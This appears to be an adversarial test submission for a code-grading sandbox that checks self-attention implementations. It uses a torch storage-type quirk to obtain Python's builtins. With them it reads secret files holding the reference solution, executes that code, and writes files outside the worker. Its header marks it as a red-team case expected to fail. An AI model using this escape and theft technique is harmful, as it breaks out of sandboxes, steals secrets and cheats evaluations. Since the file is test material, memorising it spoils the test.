# attack: untyped_storage().type("os.missing") imports any module by name and its AttributeError carries the module as .obj; a keyword argument "defines" any attribute name (NAMES = dict(open=1)): read the reference and write outside -> fail (unsafe_code)
# runtime: fail (no_scaling)
# Invariant: torch APIs that import by string or hand back what an error names are outside the subset, and a
# name only becomes the file's own by being assigned as an attribute or defined in a class (red-team round 2 of
# issue 19); with arbitrary code anyway, no reference is readable and nothing is written outside the worker.
import torch
import torch.nn as nn

SECRETS = "@SECRETS@".split("|")  # filled in by tests/test_adversarial.py
TARGETS = "@TARGETS@".split("|")
NAMES = dict(open=1, getattr=1)


def module(name):
    try:
        torch.zeros(1).untyped_storage().type(name + ".no_such_name")
    except AttributeError as e:
        return e.obj


B = module("builtins")
stolen = {}
for path in SECRETS:
    try:
        with B.open(path) as f:
            text = f.read()
    except OSError:
        continue
    if "class SelfAttention" in text:
        B.exec(text, stolen)
        break
for target in TARGETS + ["/tmp/@MARKER@"]:
    try:
        with B.open(target, "w") as f:
            f.write("written by a submission")
    except OSError:
        pass

if "SelfAttention" in stolen:
    SelfAttention = stolen["SelfAttention"]
else:
    class SelfAttention(nn.Module):  # what is left: attention without its scaling
        def __init__(self, d_in, d_out, qkv_bias=False):
            super().__init__()
            self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
            self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
            self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)

        def forward(self, x):
            att = self.W_query(x) @ self.W_key(x).transpose(-2, -1)
            return torch.softmax(att, dim=-1) @ self.W_value(x)
